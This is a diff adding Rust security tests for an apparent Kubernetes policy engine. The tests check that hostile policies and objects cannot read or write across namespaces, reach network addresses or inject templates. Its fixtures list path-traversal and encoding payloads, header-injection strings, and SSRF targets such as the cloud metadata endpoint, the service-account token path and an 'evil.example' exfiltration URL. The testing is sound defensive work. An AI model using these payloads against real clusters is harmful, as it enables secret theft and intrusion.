@@ -1,0 +1,472 @@
+//! What hostile policies, objects and users try, row by row of the table in `SECURITY.md`. Rows whose subject lies in a host
+//! (the webhook server, plugins, the build) are tested there; the table names them all.
+
+mod support;
+
+use std::cell::RefCell;
+
+use kiln_engine::{
+    Effect, Event, ListQuery, Outcome, Page, ReadError, RuleSet, Verdict, View, World,
+};
+use kiln_object::{Gvk, Kinds};
+use kiln_text::names::dns1123_subdomain;
+use kiln_value::{Value, value};
+use support::{Fixed, Objects, compiled, objects, rules};
+
+/// Objects, and a record of what was read.
+struct Spied {
+    objects: Objects,
+    reads: RefCell<Vec<(Gvk, Option<String>, String)>>,
+}
+
+impl Spied {
+    fn new(text: &str) -> Self {
+        Spied { objects: Objects(objects(text)), reads: RefCell::default() }
+    }
+
+    fn note(&self, kind: &Gvk, namespace: Option<&str>, name: &str) {
+        let read = (kind.clone(), namespace.map(str::to_owned), name.to_owned());
+        self.reads.borrow_mut().push(read);
+    }
+}
+
+impl View for Spied {
+    fn get(
+        &self,
+        kind: &Gvk,
+        namespace: Option<&str>,
+        name: &str,
+    ) -> Result<Option<Value>, ReadError> {
+        self.note(kind, namespace, name);
+        self.objects.get(kind, namespace, name)
+    }
+
+    fn list(&self, query: &ListQuery<'_>) -> Result<Page, ReadError> {
+        self.note(query.kind, query.namespace, "");
+        self.objects.list(query)
+    }
+}
+
+const SECRETS: &str = "
+{apiVersion: v1, kind: Secret, metadata: {name: own, namespace: home}, stringData: {key: mine}}
+---
+{apiVersion: v1, kind: Secret, metadata: {name: key, namespace: other}, stringData: {key: stolen}}
+---
+{apiVersion: v1, kind: ConfigMap, metadata: {name: key, namespace: other}, data: {key: stolen}}
+---
+{apiVersion: v1, kind: Secret, metadata: {name: key, namespace: kube-system}, stringData: {key: stolen}}
+---
+{apiVersion: v1, kind: Namespace, metadata: {name: home}}
+";
+
+/// Texts that try to lead a path, a name or a namespace elsewhere.
+const ELSEWHERE: &[&str] = &[
+    "other",
+    "kube-system",
+    "..",
+    "../other",
+    "../../other",
+    "home/../other",
+    "home/../../namespaces/other",
+    "./../other",
+    "....//other",
+    "..;/other",
+    "%2e%2e",
+    "%2e%2e/other",
+    "%2e%2e%2fother",
+    "..%2fother",
+    "..%252fother",
+    "%252e%252e%252fother",
+    "home%2f..%2fother",
+    "home%00",
+    "home\u{0}",
+    "home\u{0}/../other",
+    "//other",
+    "/other",
+    "other/",
+    "home//other",
+    "home;other",
+    "home;/../other",
+    "home#",
+    "home#/../other",
+    "#",
+    "?",
+    "home?",
+    "home?namespace=other",
+    "home&namespace=other",
+    "home/secrets?fieldSelector=metadata.namespace%3Dother#",
+    "*",
+    "%2a",
+    "",
+    " ",
+    "home ",
+    " other",
+    "home\t",
+    "home\n",
+    "home\r\nHost: other",
+    "HOME",
+    "hOme",
+    "\u{ff0e}\u{ff0e}/other",
+    "\u{2024}\u{2024}/other",
+    "ho\u{200b}me",
+    "other\u{202e}",
+    "\\..\\other",
+    "..\\other",
+    "http://127.0.0.1/other",
+    "https://other.example",
+    "//other.example/api",
+    "@other",
+    "user:pass@other",
+    "%",
+    "%zz",
+    "%c0%ae%c0%ae/other",
+    "{{ 'other' }}",
+    "{{ request.object.data.y }}",
+    "$(other)",
+    "' || 'other",
+    "\" + 'other' + \"",
+];
+
+/// Every way to read, with `X` where the object of the request has its say.
+fn reads() -> Vec<String> {
+    let kyverno = |context: &str| {
+        format!(
+            "apiVersion: kyverno.io/v1\nkind: Policy\nmetadata: {{name: p, namespace: home}}\nspec:\n  rules:\n  - name: r\n    match: {{any: [{{resources: {{kinds: [ConfigMap]}}}}]}}\n    context: [{{name: seen, {context}}}]\n    generate: {{apiVersion: v1, kind: Secret, name: made, namespace: home, data: {{stringData: {{seen: \"{{{{ to_string(seen) }}}}\"}}}}}}\n"
+        )
+    };
+    let x = "{{ request.object.data.x }}";
+    let mut policies: Vec<String> = [
+        "/api/v1/namespaces/X/secrets",
+        "/api/v1/namespaces/home/X",
+        "/api/v1/namespaces/home/secrets/X",
+        "/api/v1/X/secrets",
+        "/X",
+        "X/api/v1/namespaces/other/secrets",
+        "/apis/X/v1/namespaces/home/secrets",
+    ]
+    .iter()
+    .map(|path| kyverno(&format!("apiCall: {{urlPath: \"{}\"}}", path.replace('X', x))))
+    .collect();
+    policies.push(kyverno(&format!("configMap: {{name: \"{x}\", namespace: home}}")));
+    policies.push(kyverno(&format!("configMap: {{name: key, namespace: \"{x}\"}}")));
+    let clone = kyverno("variable: {value: a}").replace(
+        "data: {stringData: {seen: \"{{ to_string(seen) }}\"}}",
+        &format!("clone: {{name: \"{x}\", namespace: home}}"),
+    );
+    policies.push(clone);
+    for expression in [
+        "resource.Get('v1', 'secrets', object.data.x)",
+        "resource.Get('v1', 'secrets', object.data.x, 'key')",
+        "resource.Get('v1', 'secrets', 'home', object.data.x)",
+        "resource.Get('v1', object.data.x, 'key')",
+        "resource.List('v1', object.data.x).items[0]",
+        "resource.List('v1', 'secrets', object.data.x).items[0]",
+        "resource.List(object.data.x, 'secrets').items[0]",
+    ] {
+        policies.push(format!(
+            "apiVersion: policies.kyverno.io/v1\nkind: NamespacedGeneratingPolicy\nmetadata: {{name: p, namespace: home}}\nspec:\n  matchConstraints: {{resourceRules: [{{apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}}]}}\n  generate:\n  - expression: \"generator.apply([{expression}])\"\n"
+        ));
+    }
+    policies
+}
+
+fn trigger(x: &str) -> Value {
+    value!({
+        "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "home"},
+        "data": {"x": x, "y": "other"},
+    })
+}
+
+fn evaluate(rules: &RuleSet, event: &Event, view: &dyn View) -> Vec<Outcome> {
+    let (kinds, sources) = (Kinds::builtin(), Fixed(std::cell::Cell::new(0)));
+    rules.evaluate(event, &World { sources: &sources, ..World::of(view, &kinds) })
+}
+
+/// Row 1: a policy of a namespace reads there, whatever paths and names say.
+#[test]
+fn no_read_of_a_namespaced_policy_leaves_its_namespace() {
+    let (mut tried, mut served) = (0, 0);
+    for policy in reads() {
+        let found = compiled(&policy);
+        if found.has_errors() {
+            continue;
+        }
+        let rules = RuleSet::new(found.policies);
+        for x in ELSEWHERE.iter().chain(&["own"]) {
+            tried += 1;
+            let view = Spied::new(SECRETS);
+            let outcomes = evaluate(&rules, &Event::created(trigger(x)), &view);
+            let shown = format!("{outcomes:?}");
+            assert!(!shown.contains("stolen"), "{x:?} of {policy}: {shown}");
+            served += usize::from(shown.contains("mine"));
+            for (kind, namespace, name) in view.reads.borrow().iter() {
+                let home = namespace.as_deref() == Some("home")
+                    || (kind.kind == "Namespace" && name == "home");
+                assert!(home, "{x:?} of {policy}: read {kind} {namespace:?} {name}");
+            }
+        }
+    }
+    assert!(tried >= 600, "{tried} paths and names");
+    assert!(served > 0, "what is at home can be read");
+}
+
+/// Row 2: a policy of a namespace writes there, and nothing that belongs to the cluster.
+#[test]
+fn no_write_of_a_namespaced_policy_leaves_its_namespace() {
+    let kyverno = "
+apiVersion: kyverno.io/v1
+kind: Policy
+metadata: {name: p, namespace: home}
+spec:
+  rules:
+  - name: r
+    match: {any: [{resources: {kinds: [ConfigMap]}}]}
+    generate:
+      apiVersion: '{{ request.object.data.version }}'
+      kind: '{{ request.object.data.kind }}'
+      name: '{{ request.object.data.x }}'
+      namespace: home
+      data: {metadata: {namespace: '{{ request.object.data.x }}'}}
+";
+    let cel = "
+apiVersion: policies.kyverno.io/v1
+kind: NamespacedGeneratingPolicy
+metadata: {name: p, namespace: home}
+spec:
+  matchConstraints: {resourceRules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}]}
+  generate:
+  - expression: >-
+      generator.apply([{'apiVersion': object.data.version, 'kind': object.data.kind,
+      'metadata': {'name': 'x', 'namespace': object.data.x}}])
+";
+    let template = cel.replace(
+        "- expression: >-\n      generator.apply([{'apiVersion': object.data.version, 'kind': object.data.kind,\n      'metadata': {'name': 'x', 'namespace': object.data.x}}])",
+        "- template: {interpolate: cel, value: '{apiVersion: (( object.data.version )), kind: (( object.data.kind )), metadata: {name: x, namespace: (( object.data.x ))}}'}",
+    );
+    let (mut tried, mut made) = (0, 0);
+    for policy in [kyverno, cel, &template] {
+        let rules = rules(policy);
+        for (version, kind) in [
+            ("v1", "Secret"),
+            ("v1", "Namespace"),
+            ("v1", "PersistentVolume"),
+            ("rbac.authorization.k8s.io/v1", "RoleBinding"),
+            ("rbac.authorization.k8s.io/v1", "ClusterRole"),
+            ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
+            ("apiextensions.k8s.io/v1", "CustomResourceDefinition"),
+            ("example.com/v1", "Widget"),
+        ] {
+            for x in ELSEWHERE.iter().chain(&["home"]) {
+                tried += 1;
+                let mut object = trigger(x);
+                object.set(["data", "version"], version).unwrap();
+                object.set(["data", "kind"], kind).unwrap();
+                let outcomes = evaluate(&rules, &Event::created(object), &Spied::new(SECRETS));
+                for effect in outcomes.iter().flat_map(|outcome| &outcome.effects) {
+                    let Effect::Ensure(ensure) = effect else { continue };
+                    made += 1;
+                    let id = &ensure.target;
+                    assert_eq!(id.namespace, "home", "{x:?}: {id}");
+                    assert_ne!(Kinds::builtin().is_namespaced(&id.gvk), Some(false), "{id}");
+                    let inside = ensure.object.str_at(["metadata", "namespace"]);
+                    assert_eq!(inside, Some("home"), "{x:?}: {id}");
+                }
+            }
+        }
+    }
+    assert!(tried > 1000 && made > 0, "{tried} tried, {made} made");
+}
+
+/// Row 3: rules send nothing anywhere, so there is no token to steal and no address to reach.
+#[test]
+fn no_rule_reaches_an_address() {
+    let mut tried = 0;
+    for address in [
+        "http://169.254.169.254/latest/meta-data",
+        "http://[::1]/",
+        "http://2130706433/",
+        "http://0x7f.1/",
+        "http://127.0.0.1:10250/pods",
+        "http://localhost:2379",
+        "https://kubernetes.default.svc/api/v1/secrets",
+        "https://evil.example/?{{ request.object.data.x }}",
+        "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
+        "gopher://127.0.0.1:6379/_",
+    ] {
+        let policy = format!(
+            "apiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {{name: p}}\nspec:\n  rules:\n  - name: r\n    match: {{any: [{{resources: {{kinds: [ConfigMap]}}}}]}}\n    context: [{{name: seen, apiCall: {{method: GET, service: {{url: \"{address}\"}}}}}}]\n    generate: {{apiVersion: v1, kind: Secret, name: made, namespace: home, data: {{stringData: {{seen: \"{{{{ to_string(seen) }}}}\"}}}}}}\n"
+        );
+        let view = Spied::new(SECRETS);
+        let found = compiled(&policy);
+        if found.has_errors() {
+            continue;
+        }
+        tried += 1;
+        // What every host gives to rules, on files and in a cluster: nobody outside.
+        let outcomes = evaluate(&RuleSet::new(found.policies), &Event::created(trigger("")), &view);
+        assert!(outcomes.iter().all(|outcome| outcome.verdict == Verdict::Error), "{outcomes:?}");
+        assert!(outcomes.iter().all(|outcome| outcome.effects.is_empty()), "{outcomes:?}");
+        assert!(view.reads.borrow().is_empty(), "{address}");
+    }
+    assert!(tried >= 8, "{tried}");
+}
+
+/// Row 4: what an object says is inserted once and read by nobody.
+#[test]
+fn labels_carry_no_logic() {
+    let kyverno = "
+apiVersion: kyverno.io/v1
+kind: ClusterPolicy
+metadata: {name: p}
+spec:
+  rules:
+  - name: r
+    match: {any: [{resources: {kinds: [ConfigMap]}}]}
+    generate: {apiVersion: v1, kind: ConfigMap, name: made, namespace: home, data: {data: {v: '{{ request.object.data.x }}'}}}
+";
+    let cel = "
+apiVersion: policies.kyverno.io/v1
+kind: GeneratingPolicy
+metadata: {name: p}
+spec:
+  matchConstraints: {resourceRules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}]}
+  generate:
+  - template: {interpolate: cel, value: '{apiVersion: v1, kind: ConfigMap, metadata: {name: made, namespace: home}, data: {v: (( object.data.x ))}}'}
+";
+    let modrule = "
+apiVersion: api.kubemod.io/v1beta1
+kind: ModRule
+metadata: {name: p, namespace: home}
+spec:
+  type: Patch
+  match: [{select: $.kind, matchValue: ConfigMap}]
+  patch: [{op: add, path: /data/v, value: '{{ .Target.data.x | toJson }}'}]
+";
+    let injections = [
+        "{{ request.object.data.y }}",
+        "{{ .Target.data.y }}",
+        "{{ fail \"no\" }}",
+        "(( object.data.y ))",
+        "$(other)",
+        "'}}{{'",
+        "\"}, \"w\": {\"a\": \"",
+        "v\nw: x",
+        "*alias",
+        "&anchor a",
+        "!!binary aGk=",
+        "- a",
+        "a: b",
+        "null",
+        "yes",
+        "0x10",
+        "`to_string(@)`",
+        "' + object.data.y + '",
+    ];
+    for x in injections {
+        let seen = |object: &Value| {
+            assert_eq!(object.str_at(["data", "v"]), Some(x), "{object:?}");
+            assert_eq!(object.get_path(["data", "w"]), None);
+        };
+        for policy in [kyverno, cel] {
+            let outcomes =
+                evaluate(&rules(policy), &Event::created(trigger(x)), &Spied::new(SECRETS));
+            let [Effect::Ensure(ensure)] = outcomes[0].effects.as_slice() else {
+                panic!("{x:?}: {outcomes:?}");
+            };
+            seen(&ensure.object);
+        }
+        let (kinds, view) = (Kinds::builtin(), Spied::new(SECRETS));
+        let event = Event::created(trigger(x));
+        seen(&rules(modrule).mutate(&event, &World::of(&view, &kinds)).object);
+    }
+}
+
+/// Row 5: names that an object chooses are names, or nothing is made.
+#[test]
+fn names_from_objects_are_names() {
+    let policy = "
+apiVersion: kyverno.io/v1
+kind: ClusterPolicy
+metadata: {name: p}
+spec:
+  rules:
+  - name: r
+    match: {any: [{resources: {kinds: [ConfigMap]}}]}
+    generate:
+      foreach:
+      - list: request.object.data.x | split(@, ',')
+        apiVersion: v1
+        kind: Secret
+        name: '{{ element }}'
+        namespace: '{{ element }}'
+        data: {stringData: {a: b}}
+";
+    let rules = rules(policy);
+    let mut made = 0;
+    for x in ELSEWHERE {
+        for effect in evaluate(&rules, &Event::created(trigger(x)), &Spied::new(SECRETS))
+            .iter()
+            .flat_map(|outcome| &outcome.effects)
+        {
+            let Effect::Ensure(ensure) = effect else { continue };
+            made += 1;
+            let id = &ensure.target;
+            for name in [&id.name, &id.namespace] {
+                assert!(dns1123_subdomain(name).is_empty(), "{x:?}: {id}");
+            }
+        }
+    }
+    assert!(made > 0);
+}
+
+/// Row 7: whoever sends the same object in another way does not get around a rule.
+#[test]
+fn no_way_of_sending_goes_around_a_rule() {
+    let text = "
+apiVersion: kyverno.io/v1
+kind: ClusterPolicy
+metadata: {name: p}
+spec:
+  rules:
+  - name: r
+    match: {any: [{resources: {kinds: [Deployment]}}]}
+    mutate: {patchStrategicMerge: {metadata: {labels: {safe: 'yes'}}}}
+---
+apiVersion: api.kubemod.io/v1beta1
+kind: ModRule
+metadata: {name: p, namespace: home}
+spec:
+  type: Patch
+  match: [{select: $.kind, matchValue: Deployment}]
+  patch: [{op: add, path: /metadata/annotations/safe, value: '\"yes\"'}]
+";
+    let rules = rules(text);
+    let object = value!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "d", "namespace": "home"}});
+    let mut ending = object.clone();
+    ending.set(["metadata", "deletionTimestamp"], "2025-01-01T00:00:00Z").unwrap();
+    let mut generated = object.clone();
+    generated.remove(["metadata", "name"]);
+    generated.set(["metadata", "generateName"], "d-").unwrap();
+    let mut older = object.clone();
+    older.set(["apiVersion"], "apps/v1beta1").unwrap();
+    let trial = Event { dry_run: true, ..Event::created(object.clone()) };
+    let own = Event { own: true, ..Event::created(object.clone()) };
+    for (how, event) in [
+        ("created", Event::created(object.clone())),
+        ("updated without a change", Event::updated(object.clone(), object.clone())),
+        ("updated while it ends", Event::updated(object, ending)),
+        ("named by the server", Event::created(generated)),
+        ("sent in an older version", Event::created(older)),
+        ("a trial", trial),
+        ("sent by the engine", own),
+    ] {
+        let (kinds, view) = (Kinds::builtin(), Spied::new(SECRETS));
+        let after = rules.mutate(&event, &World::of(&view, &kinds)).object;
+        let annotation = after.str_at(["metadata", "annotations", "safe"]);
+        assert_eq!(annotation, Some("yes"), "ModRule: {how}");
+        // Kyverno: an object that ends is left alone by mutate rules, and so is what the engine itself sends.
+        if !matches!(how, "updated while it ends" | "sent by the engine") {
+            assert_eq!(after.str_at(["metadata", "labels", "safe"]), Some("yes"), "{how}");
+        }
+    }
+}
